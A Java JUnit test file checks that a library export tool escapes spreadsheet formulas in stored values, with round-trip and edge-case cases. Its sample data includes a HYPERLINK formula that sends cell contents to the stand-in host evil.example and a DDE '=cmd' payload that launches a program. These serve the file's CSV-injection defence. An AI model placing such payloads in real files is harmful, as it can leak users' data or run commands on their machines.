package org.library.transfer;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.HashSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;

class FormulaEscapingTest {

    /** Stored value, as exported. */
    static Stream<Arguments> table() {
        return Stream.of(
                Arguments.of("=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"),
                Arguments.of("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
                Arguments.of("+1", "'+1"),
                Arguments.of("-5 degrees", "'-5 degrees"),
                Arguments.of("-500", "'-500"), // a year before the common era
                Arguments.of("@home", "'@home"),
                Arguments.of("\t=1+1", "'\t=1+1"),
                Arguments.of("\rx", "'\rx"),
                Arguments.of("=", "'="),
                Arguments.of("'=already quoted", "''=already quoted"),
                Arguments.of("''+two quotes", "'''+two quotes"),
                Arguments.of("'Salem's Lot", "'Salem's Lot"), // a quote not before a formula character: as it is
                Arguments.of("'", "'"),
                Arguments.of("''", "''"),
                Arguments.of("' =x", "' =x"),
                Arguments.of(" =x", " =x"),
                Arguments.of("1+1", "1+1"),
                Arguments.of("Pride and Prejudice", "Pride and Prejudice"),
                Arguments.of("1813", "1813"),
                Arguments.of("", ""));
    }

    @ParameterizedTest
    @MethodSource("table")
    void escapeWritesTheValueAsInTheTable(String stored, String exported) {
        assertThat(FormulaEscaping.escape(stored)).isEqualTo(exported);
    }

    @ParameterizedTest
    @MethodSource("table")
    void unescapeReadsTheExportedValueBack(String stored, String exported) {
        assertThat(FormulaEscaping.unescape(exported)).isEqualTo(stored);
    }

    @ParameterizedTest
    @MethodSource("table")
    void anEscapedValueNeverStartsAFormula(String stored, String exported) {
        assertThat(FormulaEscaping.escape(stored)).doesNotStartWith("=").doesNotStartWith("+").doesNotStartWith("-")
                .doesNotStartWith("@").doesNotStartWith("\t").doesNotStartWith("\r");
    }

    @Test
    void aFormulaInAFileNotWrittenByAnExportIsImportedAsItIs() {
        for (String raw : List.of("=1+1", "+1", "-5", "@x", "'x", "'", "x'=")) {
            assertThat(FormulaEscaping.unescape(raw)).isEqualTo(raw);
        }
    }

    @Test
    void everyShortValueComesBackAsItWasAndNoTwoAreWrittenAlike() {
        List<String> values = allStrings("'=+-@\t\rx ", 5);
        Set<String> written = new HashSet<>();
        for (String value : values) {
            String exported = FormulaEscaping.escape(value);
            assertThat(FormulaEscaping.unescape(exported)).as("round trip of [%s]", value).isEqualTo(value);
            assertThat(FormulaEscaping.escape(FormulaEscaping.unescape(exported))).isEqualTo(exported); // export, import, export
            written.add(exported);
        }
        assertThat(written).hasSameSizeAs(values);
    }

    /** Every string of up to {@code maxLength} characters from {@code alphabet}. */
    private static List<String> allStrings(String alphabet, int maxLength) {
        List<String> all = new ArrayList<>(List.of(""));
        List<String> previous = List.of("");
        for (int length = 1; length <= maxLength; length++) {
            List<String> next = new ArrayList<>();
            for (String prefix : previous) {
                for (char c : alphabet.toCharArray()) {
                    next.add(prefix + c);
                }
            }
            all.addAll(next);
            previous = next;
        }
        return all;
    }
}
